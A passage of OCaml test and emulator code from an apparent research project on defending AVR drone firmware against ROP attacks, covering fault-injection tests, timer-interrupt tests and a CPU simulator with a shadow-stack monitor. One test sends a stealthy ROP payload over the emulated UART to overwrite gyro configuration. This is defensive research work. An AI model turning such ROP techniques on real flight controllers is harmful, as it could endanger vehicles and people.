      uplink = noisy;
    }
  in
  let code = (Helpers.build_mavr ()).image.code in
  let run level =
    let cpu = Cpu.create () in
    Cpu.load_program cpu code;
    let inj = Injector.create ~seed:55 level in
    (* Exercise the channels on the noisy injector so their rngs advance. *)
    (match Injector.downlink inj with
    | Some ch -> ignore (Channel.transmit ch ~now:0 "some downlink traffic")
    | None -> ());
    for _ = 1 to 300 do
      Injector.seu_tick inj cpu
    done;
    (Injector.seu_stats inj, Memory.flash_contents (Cpu.mem cpu))
  in
  let stats_a, flash_a = run quiet in
  let stats_b, flash_b = run noisy_level in
  Alcotest.(check bool) "same upset counts" true (stats_a = stats_b);
  Alcotest.(check bool) "some upsets happened" true (stats_a.Seu.sram_flips > 0);
  Alcotest.(check string) "same flash damage" flash_a flash_b

let test_profiles_well_formed () =
  List.iter
    (fun (p : Profile.t) ->
      Alcotest.(check bool)
        (p.name ^ " starts clean") true
        (Array.length p.levels >= 1 && Profile.level_is_off p.levels.(0));
      (* Round trip through the CLI's parser. *)
      match Profile.of_string p.name with
      | Ok p' -> Alcotest.(check string) "name round-trips" p.name p'.name
      | Error e -> Alcotest.failf "profile %s does not parse: %s" p.name e)
    Profile.all;
  match Profile.of_string "no-such-profile" with
  | Ok _ -> Alcotest.fail "bogus profile accepted"
  | Error _ -> ()

(* ---- faulted scenario end to end ---- *)

let test_faulted_flight_survives () =
  (* Severe everything: the defended vehicle must keep flying and keep
     the GCS fed; the fault ledgers must show the noise actually ran. *)
  let stress = Profile.stress in
  let level = stress.levels.(Array.length stress.levels - 1) in
  let faults = Injector.create ~seed:99 level in
  let s = Sc.create ~faults ~image:(Helpers.build_mavr ()).image (Sc.Mavr Mavr_core.Master.default_config) in
  Sc.run s ~ms:1500.0;
  let r = Sc.report s in
  Alcotest.(check bool) "app alive" true (not r.app_halted);
  Alcotest.(check bool) "frames still flowing" true (r.gcs_frames > 0);
  (match Injector.downlink faults with
  | None -> Alcotest.fail "downlink should be armed"
  | Some ch ->
      let st = Channel.stats ch in
      Alcotest.(check bool) "noise exercised" true
        (st.bits_flipped > 0 && st.bytes_dropped > 0));
  Alcotest.(check bool) "SEUs exercised" true ((Injector.seu_stats faults).Seu.sram_flips > 0)

let test_faulted_scenario_deterministic () =
  let level = Profile.stress.levels.(2) in
  let fly () =
    let faults = Injector.create ~seed:4242 level in
    let s = Sc.create ~faults ~image:(Helpers.build_mavr ()).image (Sc.Mavr Mavr_core.Master.default_config) in
    Sc.run s ~ms:600.0;
    let r = Sc.report s in
    (r.gcs_frames, r.gcs_alarms, r.master_detections, r.reflashes, Cpu.cycles (Sc.app s))
  in
  Alcotest.(check bool) "two flights, one outcome" true (fly () = fly ())

(* ---- campaign fault axis ---- *)

let test_campaign_fault_axis () =
  let build = Helpers.build_mavr () in
  let run jobs = Montecarlo.run ~jobs ~ms:300 ~faults:Profile.stress ~seed:7 ~trials:1 build in
  let g1 = run 1 in
  let g2 = run 2 in
  Alcotest.(check int) "one level per intensity" (Array.length Profile.stress.levels)
    (Array.length g1.Montecarlo.levels);
  Alcotest.(check string) "profile recorded" "stress" g1.Montecarlo.profile;
  (* Jobs-invariance with every fault class armed. *)
  let json t = Mavr_telemetry.Json.to_string (Montecarlo.to_json t) in
  Alcotest.(check string) "jobs-invariant document" (json g1) (json g2);
  (* MAVR concedes nothing at any intensity, and control rows exist for
     every posture at every level. *)
  Array.iter
    (fun (lr : Montecarlo.level_result) ->
      Alcotest.(check int)
        (lr.level.Profile.name ^ ": no MAVR takeovers")
        0
        (Montecarlo.level_takeovers lr Montecarlo.Mavr_defense);
      Alcotest.(check int) "three control rows" 3 (Array.length lr.controls);
      Array.iter
        (fun (c : Montecarlo.control) ->
          Alcotest.(check int) "control flights flown" g1.Montecarlo.trials c.flights;
          let rate = Montecarlo.false_alarm_rate c in
          Alcotest.(check bool) "false-alarm rate in [0,1]" true (rate >= 0.0 && rate <= 1.0))
        lr.controls)
    g1.Montecarlo.levels;
  (* The clean baseline rides in front. *)
  Alcotest.(check bool) "baseline level is off" true
    (Profile.level_is_off g1.Montecarlo.levels.(0).level);
  Alcotest.(check bool) "cells accessor = baseline cells" true
    (Montecarlo.cells g1 == g1.Montecarlo.levels.(0).cells)

let () =
  Alcotest.run "fault"
    [
      ( "channel",
        [
          Alcotest.test_case "clean identity" `Quick test_channel_clean_is_identity;
          Alcotest.test_case "deterministic" `Quick test_channel_deterministic;
          Alcotest.test_case "empty draws nothing" `Quick test_channel_empty_consumes_no_randomness;
          Alcotest.test_case "extremes" `Quick test_channel_extremes;
          Alcotest.test_case "burst keeps length" `Quick test_channel_burst_keeps_length;
          Alcotest.test_case "jitter preserves order" `Quick test_channel_jitter_preserves_order;
        ] );
      ( "seu",
        [
          Alcotest.test_case "certain upsets" `Quick test_seu_certain_upsets;
          Alcotest.test_case "off is noop" `Quick test_seu_off_is_noop;
          Alcotest.test_case "flash flip bumps epoch" `Quick test_seu_flash_flip_bumps_epoch;
        ] );
      ( "reflash",
        [
          Alcotest.test_case "clean stream" `Quick test_reflash_clean_stream;
          Alcotest.test_case "certain corruption" `Quick test_reflash_certain_corruption;
          Alcotest.test_case "recovery lands clean image" `Slow test_reflash_recovery_lands_clean_image;
          Alcotest.test_case "mild retry succeeds" `Slow test_reflash_mild_retry_succeeds;
        ] );
      ( "injector",
        [
          Alcotest.test_case "clean level disarms" `Quick test_injector_clean_level_disarms_everything;
          Alcotest.test_case "streams independent" `Quick test_injector_streams_independent;
          Alcotest.test_case "profiles well-formed" `Quick test_profiles_well_formed;
        ] );
      ( "scenario",
        [
          Alcotest.test_case "faulted flight survives" `Slow test_faulted_flight_survives;
          Alcotest.test_case "faulted flight deterministic" `Slow test_faulted_scenario_deterministic;
        ] );
      ( "campaign",
        [ Alcotest.test_case "fault axis + jobs invariance" `Slow test_campaign_fault_axis ] );
    ]
