(* Timer-interrupt machinery and the host-side preprocessing scan. *)

module Cpu = Mavr_avr.Cpu
module Isa = Mavr_avr.Isa
module Io = Mavr_avr.Device.Io
module Opcode = Mavr_avr.Opcode
module Image = Mavr_obj.Image
module F = Mavr_firmware

let load insns =
  let cpu = Cpu.create () in
  Cpu.load_program cpu (String.concat "" (List.map Opcode.encode_bytes insns));
  cpu

(* A minimal interrupt-driven program: vector 0 jumps to main, vector 1 to
   an ISR that increments r20. *)
let tiny_interrupt_program ~ocr =
  Isa.[
    Jmp 4 (* reset vector -> main at word 4 *);
    Jmp 8 (* timer vector (byte 4) -> isr at word 8 *);
    (* main, word 4: *)
    Ldi (24, ocr); Out (Io.ocr, 24);
    Ldi (24, 1); Out (Io.tccr, 24);
    Bset 7 (* sei *);
    (* word 9: idle loop *)
    Rjmp (-1);
  ]
  @ (* pad to word 8? main started at word 4: jmp(2w)+jmp(2w)=4w; main = 5 insns
       words 4..8; the idle rjmp is at word 9... place isr right after. *)
  Isa.[ (* isr at word 10 *) Inc 20; Reti ]

let test_timer_fires () =
  (* Compute the ISR address from the layout: two 2-word jmps, then five
     1-word insns and the rjmp; the ISR follows. *)
  let insns = tiny_interrupt_program ~ocr:3 in
  (* Fix the vector targets to the actual layout: main at word 4, isr at
     word 10. *)
  let insns = List.mapi (fun i x -> if i = 1 then Isa.Jmp 10 else x) insns in
  let cpu = load insns in
  ignore (Cpu.run cpu ~max_cycles:10_000);
  let taken = Cpu.interrupts_taken cpu in
  Alcotest.(check bool) "interrupts serviced" true (taken > 10);
  Alcotest.(check int) "ISR ran once per interrupt" (taken land 0xFF) (Cpu.reg cpu 20);
  (* Period (3+1)*64 = 256 cycles -> roughly 10_000/256 services. *)
  Alcotest.(check bool) "rate plausible" true (abs (taken - (10_000 / 256)) <= 2)

let test_interrupts_masked_without_sei () =
  let insns =
    Isa.[ Jmp 4; Jmp 4; Ldi (24, 1); Out (Io.ocr, 24); Ldi (24, 1); Out (Io.tccr, 24); Rjmp (-1) ]
  in
  let cpu = load insns in
  ignore (Cpu.run cpu ~max_cycles:5_000);
  Alcotest.(check int) "no interrupts with I clear" 0 (Cpu.interrupts_taken cpu)

let test_firmware_ticks () =
  let b = Helpers.build_mavr () in
  let cpu = Helpers.boot b.image in
  ignore (Cpu.run cpu ~max_cycles:500_000);
  let tick = Cpu.data_peek cpu F.Layout.tick lor (Cpu.data_peek cpu (F.Layout.tick + 1) lsl 8) in
  Alcotest.(check bool) "tick counter advanced" true (tick > 50);
  Alcotest.(check bool) "interrupts serviced" true (Cpu.interrupts_taken cpu > 50)

let test_ticks_equivalent_under_randomization () =
  (* The ISR lives at a different address in every layout (its vector
     jump is patched); behaviour must be identical. *)
  let b = Helpers.build_mavr () in
  let run image =
    let cpu = Helpers.boot image in
    ignore (Cpu.run cpu ~max_cycles:400_000);
    ( Cpu.data_peek cpu F.Layout.tick,
      Cpu.data_peek cpu (F.Layout.tick + 1),
      Cpu.interrupts_taken cpu,
      Cpu.watchdog_feeds cpu )
  in
  let reference = run b.image in
  let r = Mavr_core.Randomize.randomize ~seed:5 b.image in
  Alcotest.(check bool) "identical tick behaviour" true (run r = reference)

let test_attack_survives_interrupts () =
  (* The stealthy attack must stay reliable with the timer running: the
     handlers' cli window keeps the ISR off the pivoted stack. *)
  let b, ti, obs = Helpers.attack_target () in
  let cpu = Helpers.boot b.image in
  List.iter (Cpu.uart_send cpu)
    (Mavr_core.Rop.v2_stealthy ti obs
       ~writes:[ Mavr_core.Rop.write_u16 obs ~addr:F.Layout.gyro_cfg ~value:0x4000 ~neighbour:0 ]);
  let r = Cpu.run cpu ~max_cycles:3_000_000 in
  let cfg = Cpu.data_peek cpu F.Layout.gyro_cfg lor (Cpu.data_peek cpu (F.Layout.gyro_cfg + 1) lsl 8) in
  Alcotest.(check int) "write landed despite interrupts" 0x4000 cfg;
  Alcotest.(check string) "still running" "running" (Helpers.run_result_to_string r);
  Alcotest.(check bool) "interrupts kept firing" true (Cpu.interrupts_taken cpu > 100)

let test_isr_preserves_context () =
  (* r24 and SREG are saved/restored by the firmware ISR: a busy loop in
     registers must not observe corruption.  We run the real firmware and
     verify telemetry CRCs stay clean (the CRC state machine uses r24 and
     flags heavily). *)
  let b = Helpers.build_mavr () in
  let cpu = Helpers.boot b.image in
  let _, frames, stats = Helpers.telemetry cpu ~cycles:600_000 in
  Alcotest.(check int) "no CRC corruption" 0 stats.crc_errors;
  Alcotest.(check bool) "frames flowed" true (List.length frames > 5)

(* ---- preprocessing scan ---- *)

let test_scan_finds_all_recorded_pointers () =
  Helpers.assert_ok (Mavr_core.Preprocess.verify (Helpers.build_mavr ()).image)

let test_scan_false_positive_rate () =
  let img = (Helpers.build_mavr ()).image in
  let fp = Mavr_core.Preprocess.false_positive_count img in
  let real = List.length img.Image.funptr_locs in
  Alcotest.(check bool) "scan is not wildly over-matching" true (fp <= real * 4 + 8)

let test_scan_on_randomized_image () =
  (* After randomization the pointers hold new addresses but stay at the
     same flash offsets — and still point at function starts. *)
  let img = (Helpers.build_mavr ()).image in
  let r = Mavr_core.Randomize.randomize ~seed:11 img in
  Helpers.assert_ok (Mavr_core.Preprocess.verify r)

let () =
  Alcotest.run "interrupts"
    [
      ( "timer",
        [
          Alcotest.test_case "fires at the configured rate" `Quick test_timer_fires;
          Alcotest.test_case "masked without sei" `Quick test_interrupts_masked_without_sei;
          Alcotest.test_case "firmware tick counter" `Quick test_firmware_ticks;
          Alcotest.test_case "equivalent under randomization" `Quick
            test_ticks_equivalent_under_randomization;
          Alcotest.test_case "attack reliable under interrupts" `Quick
            test_attack_survives_interrupts;
          Alcotest.test_case "ISR preserves context" `Quick test_isr_preserves_context;
        ] );
      ( "preprocess-scan",
        [
          Alcotest.test_case "finds all recorded pointers" `Quick
            test_scan_finds_all_recorded_pointers;
          Alcotest.test_case "false-positive rate" `Quick test_scan_false_positive_rate;
          Alcotest.test_case "works on randomized images" `Quick test_scan_on_randomized_image;
        ] );
    ]
