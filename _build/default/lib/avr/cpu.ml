open Isa

type halt =
  | Illegal_instruction of { byte_addr : int; word : int }
  | Wild_pc of int
  | Break_hit
  | Sleep_mode
  | Rop_detected of { expected : int; got : int }

let pp_halt fmt = function
  | Illegal_instruction { byte_addr; word } ->
      Format.fprintf fmt "illegal instruction 0x%04x at 0x%x" word byte_addr
  | Wild_pc a -> Format.fprintf fmt "wild PC at 0x%x" a
  | Break_hit -> Format.fprintf fmt "break"
  | Sleep_mode -> Format.fprintf fmt "sleep"
  | Rop_detected { expected; got } ->
      Format.fprintf fmt "shadow-stack violation: ret to 0x%x, expected 0x%x" got expected

type t = {
  mem : Memory.t;
  dev : Device.t;
  mutable pc : int; (* word address *)
  mutable cycles : int;
  mutable retired : int;
  mutable halt : halt option;
  mutable program_bytes : int; (* extent of the flashed image; PC beyond => wild *)
  uart_rx : int Queue.t;
  uart_tx : Buffer.t;
  mutable feeds : int;
  mutable last_feed : int;
  mutable shadow : int list option; (* Some stack when the monitor is on *)
  mutable shadow_overhead : int;
  mutable timer_next_fire : int; (* cycle of the next compare interrupt *)
  mutable interrupts_taken : int;
  mutable tx_cycles_per_byte : int;
  mutable tx_busy_until : int;
}

let create ?(device = Device.atmega2560) () =
  {
    mem = Memory.create device;
    dev = device;
    pc = 0;
    cycles = 0;
    retired = 0;
    halt = None;
    program_bytes = device.Device.flash_bytes;
    uart_rx = Queue.create ();
    uart_tx = Buffer.create 256;
    feeds = 0;
    last_feed = 0;
    shadow = None;
    shadow_overhead = 0;
    timer_next_fire = max_int;
    interrupts_taken = 0;
    tx_cycles_per_byte = 0;
    tx_busy_until = 0;
  }

let mem t = t.mem
let device t = t.dev

(* Register file: memory-mapped at data 0x00..0x1F. *)
let reg t r = Memory.data_get t.mem r
let set_reg t r v = Memory.data_set t.mem r v

let io_addr t a = t.dev.Device.io_base + a
let spl_addr t = io_addr t Device.Io.spl
let sph_addr t = io_addr t Device.Io.sph
let sreg_addr t = io_addr t Device.Io.sreg
let sp t = Memory.data_get t.mem (spl_addr t) lor (Memory.data_get t.mem (sph_addr t) lsl 8)

let set_sp t v =
  Memory.data_set t.mem (spl_addr t) (v land 0xFF);
  Memory.data_set t.mem (sph_addr t) ((v lsr 8) land 0xFF)

let sreg t = Memory.data_get t.mem (sreg_addr t)
let set_sreg t v = Memory.data_set t.mem (sreg_addr t) v
let pc t = t.pc
let pc_byte_addr t = t.pc * 2
let set_pc t v = t.pc <- v
let cycles t = t.cycles
let instructions_retired t = t.retired
let halted t = t.halt
let force_halt t h = t.halt <- Some h

let reset t =
  (match t.shadow with Some _ -> t.shadow <- Some [] | None -> ());
  t.timer_next_fire <- max_int;
  t.pc <- 0;
  t.cycles <- 0;
  t.retired <- 0;
  t.halt <- None;
  (* Cycle-anchored peripheral state must restart with the clock, or a
     reflashed CPU would see a transmitter busy for an entire previous
     lifetime and a watchdog that never times out. *)
  t.tx_busy_until <- 0;
  t.last_feed <- 0;
  set_sp t (Device.data_end t.dev - 1);
  set_sreg t 0

let load_program t image =
  Memory.load_flash t.mem image;
  t.program_bytes <- String.length image;
  reset t

(* I/O-aware data-space access: reads/writes to the I/O file trigger
   peripheral behaviour; everything else is plain memory (including the
   register file, which is how the write_mem gadget corrupts state). *)
let io_read t a =
  if a = Device.Io.udr then (if Queue.is_empty t.uart_rx then 0 else Queue.pop t.uart_rx)
  else if a = Device.Io.ucsra then
    (if Queue.is_empty t.uart_rx then 0 else 0x80)
    lor (if t.cycles >= t.tx_busy_until then 0x20 else 0)
  else Memory.data_get t.mem (io_addr t a)

let io_write t a v =
  if a = Device.Io.udr then begin
    (* Writes during the busy window are lost, as on the real part. *)
    if t.cycles >= t.tx_busy_until then begin
      Buffer.add_char t.uart_tx (Char.chr (v land 0xFF));
      t.tx_busy_until <- t.cycles + t.tx_cycles_per_byte
    end
  end
  else if a = Device.Io.wdt_feed then begin
    t.feeds <- t.feeds + 1;
    t.last_feed <- t.cycles;
    Memory.data_set t.mem (io_addr t a) v
  end
  else if a = Device.Io.tccr then begin
    Memory.data_set t.mem (io_addr t a) v;
    if v land 1 <> 0 then begin
      let period = (Memory.data_get t.mem (io_addr t Device.Io.ocr) + 1) * 64 in
      t.timer_next_fire <- t.cycles + period
    end
    else t.timer_next_fire <- max_int
  end
  else if a = Device.Io.eecr then begin
    (* EEPROM access, triggered by the EERE/EEPE strobe bits. *)
    let ear =
      Memory.data_get t.mem (io_addr t Device.Io.eearl)
      lor (Memory.data_get t.mem (io_addr t Device.Io.eearh) lsl 8)
    in
    if v land 0x01 <> 0 then
      (* EERE: read eeprom[EEAR] into EEDR (stalls the CPU 4 cycles). *)
      Memory.data_set t.mem (io_addr t Device.Io.eedr) (Memory.eeprom_get t.mem ear)
    else if v land 0x02 <> 0 then
      (* EEPE: program eeprom[EEAR] from EEDR. *)
      Memory.eeprom_set t.mem ear (Memory.data_get t.mem (io_addr t Device.Io.eedr));
    Memory.data_set t.mem (io_addr t a) 0 (* strobes auto-clear *)
  end
  else Memory.data_set t.mem (io_addr t a) v

let data_read t addr =
  let io0 = t.dev.Device.io_base in
  if addr >= io0 && addr < io0 + 64 then io_read t (addr - io0) else Memory.data_get t.mem addr

let data_write t addr v =
  let io0 = t.dev.Device.io_base in
  if addr >= io0 && addr < io0 + 64 then io_write t (addr - io0) v
  else Memory.data_set t.mem addr v

let push_byte t v =
  let p = sp t in
  data_write t p v;
  set_sp t (p - 1)

let pop_byte t =
  let p = sp t + 1 in
  set_sp t p;
  data_read t p

(* Return addresses: low byte pushed first, so the address sits big-endian
   in memory (MSB at the lower address) — the layout ROP payloads encode. *)
let push_pc t addr =
  push_byte t (addr land 0xFF);
  push_byte t ((addr lsr 8) land 0xFF);
  if t.dev.Device.pc_bytes = 3 then push_byte t ((addr lsr 16) land 0xFF)

let pop_pc t =
  let hi = if t.dev.Device.pc_bytes = 3 then pop_byte t else 0 in
  let mid = pop_byte t in
  let lo = pop_byte t in
  (hi lsl 16) lor (mid lsl 8) lor lo

(* Shadow-stack hooks (§IX runtime-monitoring baseline). *)
let shadow_call t addr =
  match t.shadow with
  | None -> ()
  | Some stack ->
      t.shadow <- Some (addr :: stack);
      t.cycles <- t.cycles + t.shadow_overhead

let shadow_ret t got =
  match t.shadow with
  | None -> ()
  | Some [] -> t.cycles <- t.cycles + t.shadow_overhead (* returning past main: ignore *)
  | Some (expected :: rest) ->
      t.shadow <- Some rest;
      t.cycles <- t.cycles + t.shadow_overhead;
      if expected <> got then
        t.halt <- Some (Rop_detected { expected = expected * 2; got = got * 2 })

(* Flag helpers. *)
let flag_bit = 1

let get_flag t f = (sreg t lsr f) land 1 = flag_bit

let set_flag t f v =
  let s = sreg t in
  set_sreg t (if v then s lor (1 lsl f) else s land lnot (1 lsl f))

let set_zns t r =
  set_flag t Flag.z (r = 0);
  set_flag t Flag.n (r land 0x80 <> 0);
  set_flag t Flag.s (get_flag t Flag.n <> get_flag t Flag.v)

let flags_add t d r res =
  let c = (d land r) lor (r land lnot res) lor (lnot res land d) in
  set_flag t Flag.h (c land 0x08 <> 0);
  set_flag t Flag.c (c land 0x80 <> 0);
  set_flag t Flag.v ((d land r land lnot res lor (lnot d land lnot r land res)) land 0x80 <> 0);
  set_zns t (res land 0xFF)

let flags_sub ?(keep_z = false) t d r res =
  let bw = (lnot d land r) lor (r land res) lor (res land lnot d) in
  set_flag t Flag.h (bw land 0x08 <> 0);
  set_flag t Flag.c (bw land 0x80 <> 0);
  set_flag t Flag.v ((d land lnot r land lnot res lor (lnot d land r land res)) land 0x80 <> 0);
  let z_before = get_flag t Flag.z in
  set_zns t (res land 0xFF);
  if keep_z then set_flag t Flag.z (res land 0xFF = 0 && z_before)

let flags_logic t res =
  set_flag t Flag.v false;
  set_zns t res

let word_reg t r = reg t r lor (reg t (r + 1) lsl 8)

let set_word_reg t r v =
  set_reg t r (v land 0xFF);
  set_reg t (r + 1) ((v lsr 8) land 0xFF)

let x_reg = 26
let y_reg = 28
let z_reg = 30

let ptr_access t p ~write =
  (* Returns the effective address for the access, applying inc/dec. *)
  ignore write;
  let base, pre_dec, post_inc =
    match p with
    | X -> (x_reg, false, false)
    | X_inc -> (x_reg, false, true)
    | X_dec -> (x_reg, true, false)
    | Y_inc -> (y_reg, false, true)
    | Y_dec -> (y_reg, true, false)
    | Z_inc -> (z_reg, false, true)
    | Z_dec -> (z_reg, true, false)
  in
  let v = word_reg t base in
  let addr = if pre_dec then (v - 1) land 0xFFFF else v in
  if pre_dec then set_word_reg t base addr
  else if post_inc then set_word_reg t base ((v + 1) land 0xFFFF);
  addr

let skip_next t =
  (* Used by cpse/sbic/sbis: skip over the next instruction (1 or 2 words). *)
  let w1 = Memory.flash_word t.mem t.pc in
  let w2 = Memory.flash_word t.mem (t.pc + 1) in
  let _, words = Decode.decode w1 w2 in
  t.pc <- t.pc + words;
  t.cycles <- t.cycles + words

let branch t cond k =
  if cond then begin
    t.pc <- t.pc + k;
    t.cycles <- t.cycles + 1
  end

(* Take the pending timer-compare interrupt, mirroring AVR hardware:
   finish the current instruction, push the PC, clear SREG.I, vector. *)
let take_timer_interrupt t =
  push_pc t t.pc;
  shadow_call t t.pc;
  set_flag t Flag.i false;
  t.pc <- Device.Vector.byte_addr Device.Vector.timer_compare / 2;
  let period = (Memory.data_get t.mem (io_addr t Device.Io.ocr) + 1) * 64 in
  t.timer_next_fire <- t.cycles + period;
  t.interrupts_taken <- t.interrupts_taken + 1;
  t.cycles <- t.cycles + 5

let step t =
  match t.halt with
  | Some _ -> ()
  | None ->
      if get_flag t Flag.i && t.cycles >= t.timer_next_fire then take_timer_interrupt t
      else if t.pc < 0 || t.pc * 2 >= t.program_bytes then t.halt <- Some (Wild_pc (t.pc * 2))
      else begin
        let pc0 = t.pc in
        let w1 = Memory.flash_word t.mem pc0 in
        let w2 = Memory.flash_word t.mem (pc0 + 1) in
        let insn, words = Decode.decode w1 w2 in
        t.pc <- pc0 + words;
        t.retired <- t.retired + 1;
        let cyc = ref 1 in
        (match insn with
        | Nop -> ()
        | Data w ->
            t.halt <- Some (Illegal_instruction { byte_addr = pc0 * 2; word = w });
            t.pc <- pc0
        | Movw (d, r) ->
            set_reg t d (reg t r);
            set_reg t (d + 1) (reg t (r + 1))
        | Ldi (d, k) -> set_reg t d k
        | Mov (d, r) -> set_reg t d (reg t r)
        | Add (d, r) ->
            let a = reg t d and b = reg t r in
            let res = a + b in
            flags_add t a b res;
            set_reg t d res
        | Adc (d, r) ->
            let a = reg t d and b = reg t r in
            let res = a + b + if get_flag t Flag.c then 1 else 0 in
            flags_add t a b res;
            set_reg t d res
        | Sub (d, r) ->
            let a = reg t d and b = reg t r in
            let res = a - b in
            flags_sub t a b res;
            set_reg t d res
        | Sbc (d, r) ->
            let a = reg t d and b = reg t r in
            let res = a - b - if get_flag t Flag.c then 1 else 0 in
            flags_sub ~keep_z:true t a b res;
            set_reg t d res
        | And (d, r) ->
            let res = reg t d land reg t r in
            flags_logic t res;
            set_reg t d res
        | Or (d, r) ->
            let res = reg t d lor reg t r in
            flags_logic t res;
            set_reg t d res
        | Eor (d, r) ->
            let res = reg t d lxor reg t r in
            flags_logic t res;
            set_reg t d res
        | Cp (d, r) -> flags_sub t (reg t d) (reg t r) (reg t d - reg t r)
        | Cpc (d, r) ->
            let c = if get_flag t Flag.c then 1 else 0 in
            flags_sub ~keep_z:true t (reg t d) (reg t r) (reg t d - reg t r - c)
        | Cpse (d, r) -> if reg t d = reg t r then skip_next t
        | Mul (d, r) ->
            let p = reg t d * reg t r in
            set_reg t 0 (p land 0xFF);
            set_reg t 1 ((p lsr 8) land 0xFF);
            set_flag t Flag.c (p land 0x8000 <> 0);
            set_flag t Flag.z (p land 0xFFFF = 0);
            cyc := 2
        | Subi (d, k) ->
            let a = reg t d in
            let res = a - k in
            flags_sub t a k res;
            set_reg t d res
        | Sbci (d, k) ->
            let a = reg t d in
            let res = a - k - if get_flag t Flag.c then 1 else 0 in
            flags_sub ~keep_z:true t a k res;
            set_reg t d res
        | Andi (d, k) ->
            let res = reg t d land k in
            flags_logic t res;
            set_reg t d res
        | Ori (d, k) ->
            let res = reg t d lor k in
            flags_logic t res;
            set_reg t d res
        | Cpi (d, k) -> flags_sub t (reg t d) k (reg t d - k)
        | Com d ->
            let res = 0xFF - reg t d in
            set_flag t Flag.c true;
            flags_logic t res;
            set_reg t d res
        | Neg d ->
            let a = reg t d in
            let res = (0x100 - a) land 0xFF in
            set_flag t Flag.c (res <> 0);
            set_flag t Flag.v (res = 0x80);
            set_flag t Flag.h ((res lor a) land 0x08 <> 0);
            set_zns t res;
            set_reg t d res
        | Inc d ->
            let res = (reg t d + 1) land 0xFF in
            set_flag t Flag.v (res = 0x80);
            set_zns t res;
            set_reg t d res
        | Dec d ->
            let res = (reg t d - 1) land 0xFF in
            set_flag t Flag.v (res = 0x7F);
            set_zns t res;
            set_reg t d res
        | Lsr d ->
            let a = reg t d in
            let res = a lsr 1 in
            set_flag t Flag.c (a land 1 <> 0);
            set_flag t Flag.n false;
            set_flag t Flag.z (res = 0);
            set_flag t Flag.v (get_flag t Flag.c);
            set_flag t Flag.s (get_flag t Flag.v);
            set_reg t d res
        | Ror d ->
            let a = reg t d in
            let res = (a lsr 1) lor (if get_flag t Flag.c then 0x80 else 0) in
            set_flag t Flag.c (a land 1 <> 0);
            set_zns t res;
            set_flag t Flag.v (get_flag t Flag.n <> get_flag t Flag.c);
            set_flag t Flag.s (get_flag t Flag.n <> get_flag t Flag.v);
            set_reg t d res
        | Asr d ->
            let a = reg t d in
            let res = (a lsr 1) lor (a land 0x80) in
            set_flag t Flag.c (a land 1 <> 0);
            set_zns t res;
            set_flag t Flag.v (get_flag t Flag.n <> get_flag t Flag.c);
            set_reg t d res
        | Swap d ->
            let a = reg t d in
            set_reg t d (((a lsl 4) lor (a lsr 4)) land 0xFF)
        | Push r ->
            push_byte t (reg t r);
            cyc := 2
        | Pop r ->
            set_reg t r (pop_byte t);
            cyc := 2
        | Ret ->
            t.pc <- pop_pc t;
            shadow_ret t t.pc;
            cyc := (if t.dev.Device.pc_bytes = 3 then 5 else 4)
        | Reti ->
            t.pc <- pop_pc t;
            shadow_ret t t.pc;
            set_flag t Flag.i true;
            cyc := (if t.dev.Device.pc_bytes = 3 then 5 else 4)
        | Icall ->
            push_pc t t.pc;
            shadow_call t t.pc;
            t.pc <- word_reg t z_reg;
            cyc := (if t.dev.Device.pc_bytes = 3 then 4 else 3)
        | Ijmp ->
            t.pc <- word_reg t z_reg;
            cyc := 2
        | Call a ->
            push_pc t t.pc;
            shadow_call t t.pc;
            t.pc <- a;
            cyc := (if t.dev.Device.pc_bytes = 3 then 5 else 4)
        | Jmp a ->
            t.pc <- a;
            cyc := 3
        | Rcall k ->
            push_pc t t.pc;
            shadow_call t t.pc;
            t.pc <- t.pc + k;
            cyc := (if t.dev.Device.pc_bytes = 3 then 4 else 3)
        | Rjmp k ->
            t.pc <- t.pc + k;
            cyc := 2
        | Brbs (b, k) -> branch t (get_flag t b) k
        | Brbc (b, k) -> branch t (not (get_flag t b)) k
        | In (d, a) -> set_reg t d (io_read t a)
        | Out (a, r) -> io_write t a (reg t r)
        | Lds (d, a) ->
            set_reg t d (data_read t a);
            cyc := 2
        | Sts (a, r) ->
            data_write t a (reg t r);
            cyc := 2
        | Ldd (d, b, q) ->
            let base = if b = Y then y_reg else z_reg in
            set_reg t d (data_read t (word_reg t base + q));
            cyc := 2
        | Std (b, q, r) ->
            let base = if b = Y then y_reg else z_reg in
            data_write t (word_reg t base + q) (reg t r);
            cyc := 2
        | Ld (d, p) ->
            set_reg t d (data_read t (ptr_access t p ~write:false));
            cyc := 2
        | St (p, r) ->
            data_write t (ptr_access t p ~write:true) (reg t r);
            cyc := 2
        | Adiw (d, k) ->
            let v = word_reg t d in
            let res = (v + k) land 0xFFFF in
            set_flag t Flag.c (v + k > 0xFFFF);
            set_flag t Flag.z (res = 0);
            set_flag t Flag.n (res land 0x8000 <> 0);
            set_flag t Flag.v (res land 0x8000 <> 0 && v land 0x8000 = 0);
            set_word_reg t d res;
            cyc := 2
        | Sbiw (d, k) ->
            let v = word_reg t d in
            let res = (v - k) land 0xFFFF in
            set_flag t Flag.c (v < k);
            set_flag t Flag.z (res = 0);
            set_flag t Flag.n (res land 0x8000 <> 0);
            set_flag t Flag.v (res land 0x8000 = 0 && v land 0x8000 <> 0);
            set_word_reg t d res;
            cyc := 2
        | Lpm0 ->
            set_reg t 0 (Memory.flash_byte t.mem (word_reg t z_reg));
            cyc := 3
        | Lpm (d, inc) ->
            let z = word_reg t z_reg in
            set_reg t d (Memory.flash_byte t.mem z);
            if inc then set_word_reg t z_reg ((z + 1) land 0xFFFF);
            cyc := 3
        | Elpm0 ->
            let rampz = Memory.data_get t.mem (io_addr t 0x3B) in
            set_reg t 0 (Memory.flash_byte t.mem ((rampz lsl 16) lor word_reg t z_reg));
            cyc := 3
        | Elpm (d, inc) ->
            let rampz = Memory.data_get t.mem (io_addr t 0x3B) in
            let z = word_reg t z_reg in
            set_reg t d (Memory.flash_byte t.mem ((rampz lsl 16) lor z));
            if inc then begin
              (* 24-bit post-increment carries into RAMPZ. *)
              let full = ((rampz lsl 16) lor z) + 1 in
              set_word_reg t z_reg (full land 0xFFFF);
              Memory.data_set t.mem (io_addr t 0x3B) ((full lsr 16) land 0xFF)
            end;
            cyc := 3
        | Sbi (a, b) ->
            io_write t a (io_read t a lor (1 lsl b));
            cyc := 2
        | Cbi (a, b) ->
            io_write t a (io_read t a land lnot (1 lsl b));
            cyc := 2
        | Sbic (a, b) -> if io_read t a land (1 lsl b) = 0 then skip_next t
        | Sbis (a, b) -> if io_read t a land (1 lsl b) <> 0 then skip_next t
        | Bld (d, b) ->
            let v = reg t d in
            set_reg t d (if get_flag t Flag.t then v lor (1 lsl b) else v land lnot (1 lsl b))
